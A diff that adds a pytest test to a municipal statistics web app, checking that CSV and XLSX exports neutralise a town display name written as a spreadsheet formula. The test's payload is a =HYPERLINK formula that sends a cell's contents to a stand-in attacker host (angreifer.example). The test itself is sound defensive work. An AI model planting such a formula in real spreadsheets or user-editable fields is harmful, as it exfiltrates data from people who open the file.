@@ -111,3 +111,22 @@ def test_months_outside_the_window_are_not_in_the_month_table(staff_client, role
     html = client.get(f"/kommunen/{municipality.slug}/lotse/statistik/").content.decode()
     month_table = re.findall(r'<table class="stat">(.*?)</table>', html, re.S)[3]
     assert 'insgesamt</th><td class="num">&lt;5<' in month_table
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_exports_write_a_formula_name_as_text(staff_client, role_user, municipality, counts, fmt):
+    """The town's display name is typed by people: a spreadsheet program must not run it
+    (issue 13, defect 6); the counts stay numbers."""
+    formula = '=HYPERLINK("https://angreifer.example/?d="&B5,"Details")'
+    municipality.display_name = formula
+    municipality.save(update_fields=["display_name"])
+    client = staff_client(role_user(Role.LOTSE, municipality))
+    response = client.get(f"/kommunen/{municipality.slug}/lotse/statistik.{fmt}")
+    if fmt == "csv":
+        rows = list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))
+        assert rows[0] == ["Datenwissen", "'" + formula]
+    else:
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        assert (sheet["B1"].value, sheet["B1"].data_type) == (formula, "s")
+        families = next(row for row in sheet.iter_rows() if row[0].value == "Junge Familien")
+        assert (families[1].value, families[1].data_type) == (12, "n")
